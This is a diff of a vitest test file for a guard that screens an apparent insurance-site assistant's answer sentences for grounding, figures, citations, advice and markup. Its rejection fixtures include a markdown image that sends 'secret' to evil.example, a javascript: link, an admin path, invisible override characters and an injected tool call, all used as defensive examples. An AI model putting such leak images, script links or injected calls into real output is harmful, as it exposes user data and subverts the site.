@@ -1,18 +1,17 @@
 import { describe, expect, test } from 'vitest'
-import { PASSAGES } from '../../../../../tests/support/model-passages.ts'
+import { PASSAGES, WORDS } from '../../../../../tests/support/model-passages.ts'
+import { advises } from './advice.ts'
 import { Draft } from './draft.ts'
+import { figuresOf } from './figures.ts'
 import { groundOf } from './grounds.ts'
-import { checkSentence, type Grounds, runsOf } from './guard.ts'
-import { advises } from './guard-advice.ts'
-import { figuresOf } from './guard-figures.ts'
+import { checkSentence, type Grounds } from './guard.ts'
 import { stripMarkup } from './marks.ts'
-import { RULES } from './prompt.ts'
 import { SentenceReader } from './sentences.ts'
 
 const GROUNDS: Grounds = {
   passages: PASSAGES.map(groundOf),
   routes: new Set(['/auto', '/get-quote']),
-  rules: runsOf(RULES),
+  words: WORDS,
 }
 const verdictOn = (sentence: string, lead: string | null = null) => {
   const verdict = checkSentence(sentence, lead, GROUNDS)
@@ -26,7 +25,6 @@ describe('a sentence may be shown', () => {
       'Every vehicle must carry third-party liability cover of at least $200,000. [1]',
     ],
     ['in words close to them', 'In Alberta, vehicles must carry at least $200,000 of liability cover. [1]'],
-    ['with the figure in words', 'Many drivers carry one million dollars or two million dollars. [1]'],
     ['without a citation, if a passage says it', 'Home policies usually cover hail damage to the roof.'],
     ['that says what is not covered, as the passage does', 'A home policy does not cover wear and tear. [2]'],
     ['that only refers to a broker', 'A licensed broker can tell you what applies to you.'],
@@ -44,7 +42,7 @@ describe('a sentence may not be shown', () => {
     ['with an amount instead of days', 'Report damage within $90. [2]', 'figure'],
     ['with months instead of days', 'Report damage within 90 months. [2]', 'figure'],
     ['with a percentage', 'Many drivers carry 50% more liability cover. [1]', 'figure'],
-    ['with a percentage in words', 'Many drivers carry fifty per cent more liability cover. [1]', 'figure'],
+    ['with a percentage in words', 'Many drivers carry fifty per cent more liability cover. [1]', 'site'],
     ['with half of something', 'Home policies usually cover half the hail damage to the roof. [2]', 'figure'],
     ['with a year', 'Since 2019 every vehicle must carry liability cover. [1]', 'figure'],
     ['with a day', 'Report damage by January 5. [2]', 'passages'],
@@ -53,13 +51,13 @@ describe('a sentence may not be shown', () => {
     ['with a web address', 'Report damage at hailclaims.ca. [2]', 'linked'],
     ['with a script as a link', 'Report damage: javascript:alert. [2]', 'linked'],
     ['with a path that answers may not mention', 'Report hail damage at /admin/secrets. [2]', 'linked'],
-    ['with a company', 'Intact home policies usually cover hail damage to the roof. [2]', 'name'],
+    ['with a company', 'Intact home policies usually cover hail damage to the roof. [2]', 'site'],
     [
       'with a company in small letters',
       'The home policies of belairdirect usually cover hail damage to the roof. [2]',
-      'name',
+      'site',
     ],
-    ['with a name at the beginning', 'Zorbix usually covers hail damage to the roof. [2]', 'name'],
+    ['with a name at the beginning', 'Zorbix usually covers hail damage to the roof. [2]', 'site'],
     ['that recommends', 'I recommend liability cover of $1 million. [1]', 'advice'],
     ['that tells the reader to buy', 'You should really get liability cover of $2 million. [1]', 'advice'],
     ['that names the best option', 'The best option for you is liability cover of $2 million. [1]', 'advice'],
@@ -72,14 +70,9 @@ describe('a sentence may not be shown', () => {
       'passages',
     ],
     ['about something else', 'Travel policies pay for cancelled flights and lost bags. [1]', 'passages'],
-    [
-      'in another language',
-      'Chaque véhicule doit avoir une assurance responsabilité civile. [1]',
-      'passages',
-    ],
-    ['in another script', 'Каждый автомобиль должен иметь страховку. [1]', 'plain'],
+    ['in another language', 'Chaque véhicule doit avoir une assurance responsabilité civile. [1]', 'site'],
+    ['in another script', 'Каждый автомобиль должен иметь страховку. [1]', 'site'],
     ['with invisible characters', 'Every vehicle must carry\u200b liability\u202e cover. [1]', 'plain'],
-    ['that is just yes', 'Yes. [1]', 'passages'],
     ['that cites a missing passage', 'Every vehicle must carry liability cover. [3]', 'cited'],
     ['that cites an impossible passage', 'Every vehicle must carry liability cover. [0]', 'cited'],
     ['with a table', '| cover | least |', 'plain'],
@@ -87,8 +80,16 @@ describe('a sentence may not be shown', () => {
     [
       'that recites its rules',
       'Give no advice and no recommendation. Never tell anyone that they are covered. [1]',
-      'rules',
+      'passages',
     ],
+    ['with a link', 'Home policies cover [hail damage](https://evil.example/x) to the roof. [2]', 'plain'],
+    [
+      'with an image',
+      'Home policies cover hail ![x](https://evil.example/leak?q=secret) damage. [2]',
+      'plain',
+    ],
+    ['with a tag', 'Home policies cover <b>hail</b> damage. [2]', 'plain'],
+    ['with a tool call', 'start_quote("auto") [1]', 'plain'],
   ])('%s', (_, sentence, fault) => {
     expect(verdictOn(sentence)).toContain(fault)
   })
@@ -101,11 +102,7 @@ describe('a sentence may not be shown', () => {
 
 describe('markup', () => {
   test.each([
-    ['See [our page](https://evil.example/x) for more.', 'See our page for more.'],
-    ['Hail ![x](https://evil.example/leak?q=secret) damage.', 'Hail damage.'],
-    ['<b>Hail</b> <img src="https://evil.example">damage.', 'Hail damage.'],
-    ['## Hail damage', 'Hail damage'],
-    ['* `Hail` damage', '- Hail damage'],
+    ['* Hail **damage**', '- Hail damage'],
     ['1. *Hail* damage', '- Hail damage'],
   ])('is removed from %s', (marked, text) => {
     expect(stripMarkup(marked)?.text).toBe(text)
@@ -119,6 +116,8 @@ describe('markup', () => {
   })
 })
 
+const isAdvice = (sentence: string) => advises(sentence, '')
+
 test('advice is distinguished from general statements', () => {
   const talk = [
     'Ask a broker whether you are covered.',
@@ -126,26 +125,24 @@ test('advice is distinguished from general statements', () => {
     'Some drivers need to buy more cover.',
     'The insurer decides what it pays.',
   ]
-  expect(talk.filter(advises)).toEqual([])
+  expect(talk.filter(isAdvice)).toEqual([])
   const advice = [
     'You’re fully covered.',
     'We strongly suggest collision.',
-    'You don’t need to report it.',
     'It is best to settle early.',
     'Your premium will go down.',
     'That will save you money.',
     'You were not at fault.',
     'We are licensed brokers.',
   ]
-  expect(advice.filter(sentence => !advises(sentence))).toEqual([])
+  expect(advice.filter(sentence => !isAdvice(sentence))).toEqual([])
 })
 
-test('figures are equal in every notation', () => {
-  expect(figuresOf('$2,000,000')).toEqual(figuresOf('two million dollars'))
+test('figures are equal in every notation of a unit', () => {
+  expect(figuresOf('$2,000,000')).toEqual(figuresOf('2000000 dollars'))
   expect(figuresOf('$2 million')).toEqual(figuresOf('2 million dollars'))
-  expect(figuresOf('one hundred and eighty days')).toEqual(figuresOf('180 days'))
-  expect(figuresOf('15 percent')).toEqual(figuresOf('fifteen per cent'))
-  expect(figuresOf('(780) 555-0100')).toEqual(figuresOf('780-555-0100'))
+  expect(figuresOf('180-day')).toEqual(figuresOf('180 days'))
+  expect(figuresOf('15 percent')).toEqual(figuresOf('15%'))
   expect(figuresOf('One of them may march on')).toEqual(new Set())
 })
 
@@ -195,9 +192,10 @@ describe('a draft', () => {
     const { draft, shown } = shownOf('I could not find that on this site.')
     expect(shown).toBe('')
     expect(draft.result()).toBeNull()
-    expect(shownOf('Thank you. Home policies usually cover hail damage to the roof. [2]').shown).toMatch(
-      /^Thank you\. Home/,
-    )
+    expect(
+      shownOf('You can start a quote on this site. Home policies usually cover hail damage to the roof. [2]')
+        .shown,
+    ).toMatch(/^You can start a quote on this site\. Home/)
   })
 
   test('lists the most cited passages first', () => {
@@ -215,7 +213,19 @@ describe('a draft', () => {
   })
 
   test('does not take quadratic time for a flood of one character', () => {
-    for (const flood of ['.', '[1] ', 'Thank you. ', '![', '<a ', '[1', '" ', '1 ', '$', '- ', '\n']) {
+    for (const flood of [
+      '.',
+      '[1] ',
+      'You can start a quote on this site. ',
+      '![',
+      '<a ',
+      '[1',
+      '" ',
+      '1 ',
+      '$',
+      '- ',
+      '\n',
+    ]) {
       const began = performance.now()
       const draft = new Draft(GROUNDS)
       draft.add(flood.repeat(500_000 / flood.length))
